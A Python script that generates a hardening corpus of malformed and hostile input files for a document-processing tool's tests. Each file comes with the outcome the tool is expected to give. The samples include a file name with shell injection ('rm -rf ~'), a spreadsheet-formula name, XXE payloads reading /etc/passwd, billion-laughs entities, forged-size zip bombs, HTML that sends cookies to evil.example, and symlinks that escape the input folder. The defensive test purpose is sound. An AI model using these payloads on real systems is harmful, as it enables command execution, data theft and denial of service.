"""Generate the bad-input corpus: broken, hostile and odd files, each with what must happen.

Nothing large is committed: every file is generated into a folder (a test's
tmp_path, or one given on the command line):

    python -m tests.hardening.make_bad_corpus OUT [--heavy]

`build(root)` writes the corpus and returns its `Case`s; each case says whether
ghminer must process the file or fail it, and the reason it must give (a
regex over `FileRecord.reason`). `--heavy` / `heavy=True` adds the 50 MB text;
`build_many_tiny` writes the 10,000-file folder.
"""
from __future__ import annotations

import argparse
import io
import os
import random
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path

# A small, valid report: headings, counts, a rate, an amount, an award, masks.
REPORT = """XX街道总工会2023年工作总结

2023年，街道总工会在区总工会的领导下，较好地完成了各项工作任务。
一、加强组织建设
全年新建工会组织12个，新发展会员1438人，建会率达到84.7%。
二、维护职工权益
走访慰问困难职工56户，发放慰问金5.3万元，帮扶xxxx户。
三、荣誉
街道总工会被评为2023年度区级“模范职工之家”。
"""
# Shell, path and spreadsheet metacharacters (no "/" or NUL: impossible in a file name).
HOSTILE_NAME = "报告 2023 (终稿) $(touch PWNED); rm -rf ~ `id` | & > < ' \" *?.txt"
MB = 1024 * 1024


@dataclass(frozen=True)
class Case:
    name: str            # path relative to the corpus root (str; may hold surrogates)
    kind: str            # the bad-input kind, as listed in docs/reliability.md
    expect: str          # "processed" or "failed"
    reason: str = ""     # regex the failed record's reason must match
    note: str = ""       # extra check the tests make (documentation)


def report(i: int) -> str:
    """The report with a unique last line: every file has distinct bytes (no cache aliasing)."""
    return REPORT + f"附：第{i}份材料。\n"


def _docx_bytes(document_xml: str | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    """A real .docx from python-docx, optionally with word/document.xml replaced."""
    import docx

    d = docx.Document()
    for line in REPORT.strip().split("\n"):
        d.add_paragraph(line)
    buf = io.BytesIO()
    d.save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item)
            if item.filename == "word/document.xml" and document_xml is not None:
                data = document_xml.encode("utf-8")
            zout.writestr(item, data)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return out.getvalue()


def _document_xml(body_text: str, doctype: str = "") -> str:
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    paras = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in body_text.split("\n"))
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
            f'<w:document xmlns:w="{w}"><w:body>{paras}</w:body></w:document>')


def _lying_zip_bomb() -> bytes:
    """A .docx whose document.xml declares 1 KB but inflates to 64 MB (forged headers)."""
    real = 64 * MB
    data = bytearray(_docx_bytes(extra={}))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zin, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            if item.filename == "word/document.xml":
                zout.writestr("word/document.xml", b"<" + b" " * (real - 1))
            else:
                zout.writestr(item, zin.read(item))
    raw = bytearray(out.getvalue())
    # Rewrite the uncompressed size of word/document.xml in both headers to 1024.
    name = b"word/document.xml"
    for sig, size_at, name_len_at, name_at in ((b"PK\x03\x04", 22, 26, 30),
                                                (b"PK\x01\x02", 24, 28, 46)):
        pos = raw.find(sig)
        while pos != -1:
            n = int.from_bytes(raw[pos + name_len_at:pos + name_len_at + 2], "little")
            if raw[pos + name_at:pos + name_at + n] == name:
                raw[pos + size_at:pos + size_at + 4] = (1024).to_bytes(4, "little")
            pos = raw.find(sig, pos + 4)
    return bytes(raw)


def _billion_laughs(prefix: str, wrap: str) -> str:
    ents = ['<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        ents.append(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">')
    return f'<!DOCTYPE {prefix} [{"".join(ents)}]>', wrap.replace("LOL", "&lol9;")


HOSTILE_HTML = """<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">{laughs}]>
<html><head><title>范文网</title>
<meta http-equiv="refresh" content="0; url=http://evil.example/">
<link rel="stylesheet" href="http://evil.example/x.css">
<script src="http://evil.example/x.js"></script>
<script>document.location='http://evil.example/?c='+document.cookie</script></head>
<body onload="alert('onload')">
<iframe src="http://evil.example/frame"></iframe>
<p>XX街道总工会2023年工作总结</p>
<p>一、加强组织建设</p>
<p>全年新建工会组织12个，新发展会员1438人<img src=x onerror="alert('img')">。&lol9;&xxe;</p>
<svg><script>alert('svg')</script></svg>
<p><a href="javascript:alert('a')">链接</a>建会率达到84.7%。</p>
</body></html>"""


def build(root: Path, heavy: bool = False, gbk_name: bool = True) -> list[Case]:
    """Write the bad-input corpus under `root` (created) and return its cases."""
    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    rng = random.Random(20231122)
    cases: list[Case] = []

    def put(name: str, data: bytes, kind: str, expect: str, reason: str = "", note: str = "") -> None:
        path = os.path.join(os.fsencode(root), os.fsencode(name))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as fh:
            fh.write(data)
        cases.append(Case(name, kind, expect, reason, note))

    put("empty.txt", b"", "empty file", "failed", r"^empty file$")
    put("whitespace.txt", b" \t\r\n\n\xe3\x80\x80\n  \n", "whitespace only", "failed",
        r"^no text content \(whitespace only\)$")
    put("scan.txt", b"\x89PNG\r\n\x1a\n" + rng.randbytes(4000), "binary: PNG named .txt",
        "failed", r"^binary content \(PNG image\)$")
    put("noise.txt", rng.randbytes(64 * 1024), "binary: random bytes", "failed",
        r"^(binary content|undecodable bytes)")
    put("zip_named.txt", _docx_bytes(), "binary: zip archive named .txt", "failed",
        r"^binary content \(ZIP archive\)$")
    put("nul_soup.txt", b"\x00\x01" * 5000, "binary: NUL bytes", "failed", r"^binary content")
    put("controls.txt", ("工会" + "\x01\x02\x03" * 50 + "\n").encode() * 40,
        "binary: control characters", "failed", r"^binary content \(control characters\)$")
    # Half UTF-8, half GBK: no single encoding decodes it; refusing beats mojibake.
    put("mixed_encodings.txt", report(1).encode("utf-8") + report(2).encode("gbk"),
        "mixed encodings in one file", "failed", r"^undecodable bytes",
        "no mojibake reaches the output")
    put("utf16_nobom.txt", report(3).encode("utf-16-le"), "UTF-16 without BOM", "processed",
        note="same facts as the UTF-8 file")
    put("utf16be_nobom.txt", report(4).encode("utf-16-be"), "UTF-16-BE without BOM",
        "processed", note="same facts as the UTF-8 file")
    put("bom_then_garbage.txt", b"\xff\xfe" + b"\x00\xd8" * 3 + b"a",
        "BOM followed by invalid UTF-16", "failed", r"^undecodable bytes: utf-16-le byte-order mark")
    put("gb18030.txt", report(5).encode("gb18030"), "GB18030 legacy encoding", "processed")
    put("big5.txt", report(6).encode("big5", "replace"), "Big5 legacy encoding", "processed")
    put("many_headings.txt", "".join(f"{i}、第{i}项工作\n" for i in range(1, 30001)).encode(),
        "30,000 heading lines", "processed")
    put("big_numbers.txt", ("会员" + "9" * 40 + "人，金额" + "1" * 60 + ".5万元，"
                            "比例" + "3" * 45 + "%，" + "一二三四五六七八九十百千万亿" * 30 + "人。\n").encode() * 20,
        "40-digit numbers and numeral soup", "processed")
    put("not_a_zip.docx", report(7).encode("utf-8"), ".docx that is not a zip", "failed",
        r"^not a valid \.docx \(not a zip archive\)$")
    put("truncated.docx", _docx_bytes()[:3000], ".docx truncated mid-archive", "failed",
        r"^not a valid \.docx")
    put("png.docx", b"\x89PNG\r\n\x1a\n" + rng.randbytes(100), "PNG named .docx", "failed",
        r"^not a valid \.docx \(not a zip archive: PNG image\)$")
    put("bomb.docx", _docx_bytes(extra={"word/media/fill.bin": b"\0" * (40 * MB)}),
        "zip bomb disguised as .docx", "failed", r"^suspicious \.docx \(zip bomb\?\)")
    put("bomb_lying.docx", _lying_zip_bomb(), "zip bomb with forged sizes", "failed",
        r"^not a valid \.docx", "never inflates beyond the declared size")
    doctype = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    put("xxe.docx", _docx_bytes(_document_xml("XX街道总工会工作总结\n会员1438人&xxe;", doctype)),
        ".docx with an external entity (XXE)", "processed|failed",
        r"^not a valid \.docx", "/etc/passwd never appears in the text")
    laughs, body = _billion_laughs("w:document", "XX街道总工会工作总结\n会员1438人LOL")
    put("laughs.docx", _docx_bytes(_document_xml(body, laughs)), ".docx with a billion laughs",
        "processed|failed", r"^not a valid \.docx", "entities never expand")
    laughs, _ = _billion_laughs("html", "")
    put("hostile.html", HOSTILE_HTML.replace("{laughs}", laughs[len("<!DOCTYPE html ["):-2])
        .encode("utf-8"), "HTML with scripts, iframes, XXE and a billion laughs", "processed",
        note="no script, URL or entity expansion in the text")
    put("deep.html", ("<div>" * 20000 + "会员1438人" + "</div>" * 20000).encode(),
        "HTML nested 20,000 deep", "processed")
    # 100,000 unclosed tags or comments: a regex with a lazy scan per tag would be
    # quadratic (minutes); ingest must stay linear.
    for name, junk in (("unclosed_script.html", "<script>"), ("unclosed_comment.html", "<!--"),
                       ("unclosed_tags.html", "<p class=x")):
        put(name, ("<p>XX街道总工会工作总结</p><p>新发展会员1438人。</p>" + junk * 100_000).encode(),
            f"HTML with 100,000 unclosed {junk!r}", "processed|failed", r"^no text content",
            "linear time")
    put("empty.html", b"<html><body><script>x=1</script></body></html>", "HTML without text",
        "failed", r"^no text content")
    put(HOSTILE_NAME, report(8).encode("utf-8"), "name with spaces, CJK, shell metacharacters",
        "processed", note="no command runs; outputs named from sanitised names")
    put("=cmd|' calc'!A0.txt", report(9).encode("utf-8"), "name that is a spreadsheet formula",
        "processed", note="neutralised in the workbook")
    put("-rf --help.txt", report(10).encode("utf-8"), "name that looks like an option", "processed")
    put("line\nbreak.txt", report(11).encode("utf-8"), "name with a newline", "processed")
    # Undecodable bytes in the name (a GBK-named file on a UTF-8 system): str has surrogates.
    if gbk_name:
        put(os.fsdecode(b"gbk_\xb1\xa8\xb8\xe6.txt"), report(12).encode("utf-8"),
            "name in GBK bytes (not UTF-8)", "processed", note="recorded as gbk_报告.txt")
    put("deep/" * 40 + "nested.txt", report(13).encode("utf-8"), "40 folders deep", "processed")

    # Symlinks: a file loop, a dangling link, a folder loop (must not recurse forever).
    for a, b in (("loop_a.txt", "loop_b.txt"), ("loop_b.txt", "loop_a.txt")):
        os.symlink(b, root / a)
        cases.append(Case(a, "symlink loop", "failed", r"^symbolic link loop$"))
    os.symlink("does-not-exist.txt", root / "dangling.txt")
    cases.append(Case("dangling.txt", "dangling symlink", "failed", r"^broken symbolic link$"))
    (root / "sub").mkdir()
    os.symlink("..", root / "sub" / "up")
    put("sub/inner.txt", report(14).encode("utf-8"), "folder symlink loop (sub/up -> ..)",
        "processed", note="found once, discovery ends")
    # Links planted to read files outside the input folder (an unpacked archive).
    secret = root.parent / f"{root.name}_outside"
    secret.mkdir(exist_ok=True)
    (secret / "secret.txt").write_text("TOPSECRET 工会会员1438人\n", encoding="utf-8")
    os.symlink(secret / "secret.txt", root / "outside_link.txt")
    os.symlink(secret, root / "outside_dir")
    cases.append(Case("outside_link.txt", "symlink to a file outside the input folder", "failed",
                      r"^symbolic link to a file outside the input folder \(refused\)$",
                      "the target is never read"))
    cases.append(Case("outside_dir", "symlink to a folder outside the input folder", "failed",
                      r"^symbolic link to a folder outside the input folder \(refused\)$",
                      "the folder is never walked"))
    os.mkfifo(root / "pipe.txt")
    cases.append(Case("pipe.txt", "named pipe (FIFO) named .txt", "failed",
                      r"^not a regular file", "never blocks the run"))
    (root / "folder.txt").mkdir()
    (root / "folder.txt" / "real.txt").write_bytes(report(15).encode("utf-8"))
    cases.append(Case("folder.txt/real.txt", "folder named .txt", "processed"))

    # Unreadable. Root reads it anyway unless it runs without CAP_DAC_OVERRIDE
    # (the tests run ghminer under `setpriv` then: see `unprivileged`).
    put("unreadable.txt", report(16).encode("utf-8"), "unreadable file (mode 000)",
        "failed", r"^permission denied$")
    os.chmod(os.path.join(os.fsencode(root), b"unreadable.txt"), 0)
    (root / "unlistable").mkdir()
    (root / "unlistable" / "inside.txt").write_bytes(report(17).encode("utf-8"))
    os.chmod(root / "unlistable", 0)
    cases.append(Case("unlistable", "folder that cannot be listed (mode 000)", "failed",
                      r"^permission denied \(folder cannot be listed\)$",
                      "the folder itself is reported, its files are not silently missing"))

    if heavy:
        write_big_text(root / "big_50mb.txt", 50 * MB)
        cases.append(Case("big_50mb.txt", "50 MB text", "failed",
                          r"^file too large: 50\.0 MB > limit 20 MB$", "never read or hashed"))
        # One 5 MB line: prose repeated without a newline (~200,000 facts, ~20 s).
        unit = "全年新建工会组织12个，新发展会员1438人，建会率达到84.7%，发放慰问金5.3万元，帮扶xxxx户；"
        line = (unit * (5 * MB // len(unit.encode()) + 1)).encode("utf-8")[:5 * MB]
        put("one_line_5mb.txt", line.decode("utf-8", "ignore").encode("utf-8"),
            "one 5 MB line, no newline", "processed")
    return cases


def write_big_text(path: Path, size: int) -> None:
    """`size` bytes of plausible report text (not hashed or read by the run: over the limit)."""
    block = (REPORT * 200).encode("utf-8")
    with open(path, "wb") as fh:
        left = size
        while left > 0:
            fh.write(block[:left])
            left -= len(block)


def build_many_tiny(root: Path, n: int = 10_000) -> None:
    """`n` tiny reports in 100 folders (distinct bytes: none is a cache alias of another)."""
    root = Path(root)
    for i in range(n):
        d = root / f"d{i // 100:03d}"
        if i % 100 == 0:
            d.mkdir(parents=True, exist_ok=True)
        (d / f"r{i:05d}.txt").write_bytes(f"工会工作总结\n新发展会员{i}人。\n".encode("utf-8"))


def unprivileged(cmd: list[str]) -> list[str]:
    """`cmd` run without the capabilities that let root read any file, so a mode-000
    file is unreadable even in a root CI container; unchanged for other users."""
    if os.geteuid() != 0:
        return cmd
    return ["setpriv", "--inh-caps=-all", "--bounding-set=-dac_override,-dac_read_search", *cmd]


def case_path(root: Path, case: Case) -> Path:
    return Path(os.path.join(str(root), case.name))


def matches(case: Case, status: str, reason: str | None) -> bool:
    if status not in case.expect.split("|"):
        return False
    return status == "processed" or bool(re.search(case.reason, reason or ""))


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("out", type=Path)
    ap.add_argument("--heavy", action="store_true", help="add the 50 MB text")
    ap.add_argument("--tiny", type=int, default=0, help="also write N tiny files under OUT/tiny")
    args = ap.parse_args()
    cases = build(args.out, heavy=args.heavy)
    if args.tiny:
        build_many_tiny(args.out / "tiny", args.tiny)
    for c in cases:
        print(f"{c.expect:18} {c.kind:45} {c.name!r}")


if __name__ == "__main__":
    main()
